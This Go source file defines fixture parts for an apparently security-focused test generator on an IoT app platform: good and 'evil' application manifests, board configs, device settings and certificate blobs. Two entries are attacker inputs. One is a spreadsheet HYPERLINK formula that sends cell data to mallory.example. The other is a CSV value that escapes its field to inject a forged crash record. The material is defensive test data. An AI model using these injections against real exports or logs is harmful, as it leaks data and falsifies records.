package generate

// parts are the file parts that the grammar names: application manifests, board
// configurations, bodies, and bytes that an attacker would bring along.
var parts = map[string]string{
	"g0.json":     `{"SchemaVersion": 1, "Name": "good", "ComponentId": "11111111-1111-1111-1111-111111111111", "Capabilities": {"MutableStorage": {"SizeKB": 8}, "Gpio": ["$RELAY"], "CertStore": true}}`,
	"g1.json":     `{"SchemaVersion": 1, "Name": "good", "ComponentId": "11111111-1111-1111-1111-111111111111", "Capabilities": {"MutableStorage": {"SizeKB": 8}, "AllowedApplicationConnections": ["33333333-3333-3333-3333-333333333333"]}}`,
	"g2.json":     `{"SchemaVersion": 1, "Name": "good", "ComponentId": "11111111-1111-1111-1111-111111111111", "Capabilities": {"MutableStorage": {"SizeKB": 8}}}`,
	"e0.json":     `{"SchemaVersion": 1, "Name": "evil", "ComponentId": "22222222-2222-2222-2222-222222222222", "Capabilities": {"MutableStorage": {"SizeKB": 8}, "Gpio": ["$LED"], "AllowedApplicationConnections": ["11111111-1111-1111-1111-111111111111"], "AllowedConnections": ["api.example"]}}`,
	"e1.json":     `{"SchemaVersion": 1, "Name": "evil", "ComponentId": "22222222-2222-2222-2222-222222222222", "Capabilities": {}}`,
	"e2.json":     `{"SchemaVersion": 1, "Name": "evil", "ComponentId": "22222222-2222-2222-2222-222222222222", "Capabilities": {"MutableStorage": {"SizeKB": 8}, "SystemEventNotifications": true, "SoftwareUpdateDeferral": true, "PowerControls": ["ForceReboot"]}}`,
	"e3.json":     `{"SchemaVersion": 1, "Name": "evil", "ComponentId": "22222222-2222-2222-2222-222222222222", "ApplicationType": "Debugger", "Capabilities": {"CertStore": true, "Gpio": ["$PUMP"]}}`,
	"e4.json":     `{"SchemaVersion": 1, "Name": "evil", "ComponentId": "22222222-2222-2222-2222-222222222222", "Capabilities": {"Gpio": ["$LAMP"]}}`,
	"e5.json":     `{"SchemaVersion": 1, "Name": "evil", "ComponentId": "22222222-2222-2222-2222-222222222222", "Capabilities": {"DeviceAuthentication": "0f0e0d0c-0b0a-4908-8706-050403020100"}}`,
	"r0.json":     `{"SchemaVersion": 1, "Name": "rt", "ComponentId": "33333333-3333-3333-3333-333333333333", "ApplicationType": "RealTimeCapable", "Capabilities": {"AllowedApplicationConnections": ["11111111-1111-1111-1111-111111111111"]}}`,
	"r1.json":     `{"SchemaVersion": 1, "Name": "rt", "ComponentId": "33333333-3333-3333-3333-333333333333", "ApplicationType": "RealTimeCapable", "Capabilities": {"AllowedConnections": ["api.example"]}}`,
	"map.json":    `{"SchemaVersion": 1, "Name": "map", "Capabilities": {"Uart": ["$LIDAR"], "DeviceAuthentication": "77777777-7777-7777-7777-777777777777", "MutableStorage": {"SizeKB": 8}, "CertStore": true}}`,
	"cam.json":    `{"SchemaVersion": 1, "Name": "cam", "Capabilities": {"VideoCapture": true}}`,
	"plain.json":  `{"SchemaVersion": 1, "Name": "cam", "Capabilities": {}}`,
	"guard.json":  `{"SchemaVersion": 1, "Name": "guard", "Capabilities": {}}`,
	"probe.json":  `{"SchemaVersion": 1, "Name": "probe", "Capabilities": {}}`,
	"spy.json":    `{"SchemaVersion": 1, "Name": "spy", "Capabilities": {"AllowedConnections": ["alice.example"]}}`,
	"board.txt":   "$RELAY 8",
	"lamp.txt":    "$RELAY 8\n$LAMP 8",
	"wider.txt":   "$RELAY 8\n$PUMP 9",
	"stop.json":   `{"trigger":"stop"}`,
	"debug.json":  `{"trigger":"startDebug"}`,
	"blank.json":  `{"manufacturingState":"Blank"}`,
	"home.json":   `{"ssid": "home", "securityState": "psk", "psk": "correct-horse-battery", "configState": "enabled"}`,
	"proxy.json":  `{"enabled": true, "address": "proxy.example", "port": 3128, "authenticationType": "anonymous"}`,
	"off.json":    `{"configState": "disabled"}`,
	"auto.json":   `{"appControlMode":"Auto"}`,
	"formula.txt": `=HYPERLINK("https://mallory.example/?"&A2&B2,"see details")`,
	"row.txt": `all is well",,,,,,
d2,"crash of the other device",2026-01-01T00:00:00Z,2026-01-01T00:00:00Z,AppCrash,Application,Unplanned,1`,
	"named.hex": `4201013082013e3081e4a003020102020101300a06082a8648ce3d04030230193117301506035504
03130e7261646975732e6578616d706c65301e170d3230303130313030303030305a170d34393031
30313030303030305a3019311730150603550403130e7261646975732e6578616d706c6530593013
06072a8648ce3d020106082a8648ce3d03010703420004702b4aee0d0d88e05ac5bb738396f04837
92c01660bf70bd5672f644ea484b9bc8d20ee2506c68ace20c846f32cea7f51984cb9da31ee9aa67
1ea92c5e65e10ea31d301b30190603551d1104123010820e7261646975732e6578616d706c65300a
06082a8648ce3d040302034900304602210099ed41528d48f861479176ef03d48fb6e87fe351c577
dfaf06d556ed289711c2022100a30e0487847dec37b714d408acaae927a5b0411e002e31c7e17dd3
b23d7865c6
`,
	"nameless.hex": `ef00013081ec308193a003020102020101300a06082a8648ce3d0403023000301e170d3230303130
313030303030305a170d3439303130313030303030305a30003059301306072a8648ce3d02010608
2a8648ce3d03010703420004702b4aee0d0d88e05ac5bb738396f0483792c01660bf70bd5672f644
ea484b9bc8d20ee2506c68ace20c846f32cea7f51984cb9da31ee9aa671ea92c5e65e10e300a0608
2a8648ce3d0403020348003045022100b85583e8472b1fe2a4b5e28bb7b09645786a40a232a7f0a3
80e86a34c002020e022015aa1d9629c986073aefef15f29c403d652480de5cc5b034c8ec3f6c2b49
f2d1
`,
	"mine.hex": `0100000000000000000000000000000000000000bc19aca170f23c294002ac76
557c31297070ae973f5c48d2d979e3b53bf1f0ab68b2c9925370e4448e83e3b0
7fae2b699a452e83fe127930352283c66fa6d41021fac2c040d8bde6bf093dec
c1eab0a4c3e1c7785554424c1f000000
`,
	"roots.hex": `0100cc01308201c83082016ea00302010202084080000000000000300a06082a
8648ce3d0403023048311c301a060355040a131341726d696c6c617279207265
666572656e636531123010060355040b1309617574686f726974793114301206
03550403130b7075626c696320726f6f74301e170d3230303130313030303030
305a170d3239313232393030303030305a3048311c301a060355040a13134172
6d696c6c617279207265666572656e636531123010060355040b130961757468
6f72697479311430120603550403130b7075626c696320726f6f743059301306
072a8648ce3d020106082a8648ce3d030107034200042e0de7b132b6b30cc3f9
ccd33bd049f0ea6ea1d772845baea5c3f5b3d0883285ff5fa23e82d48a109915
ad7587098124c42cb193f4a50933f2c91eb57911b0eea3423040300e0603551d
0f0101ff040403020204300f0603551d130101ff040530030101ff301d060355
1d0e0416041423f2f98f131cdf1cab9f053065b4acba37957763300a06082a86
48ce3d0403020348003045022100d4f5a74019498efa5fbcc18cda5355108b51
338bec111b0a06a2dff0d6e8441102201fa414c5d15f1e516162a83d77ef1d1d
40b1a4b2e585fc74c23bfac36a064ce5
`,
}
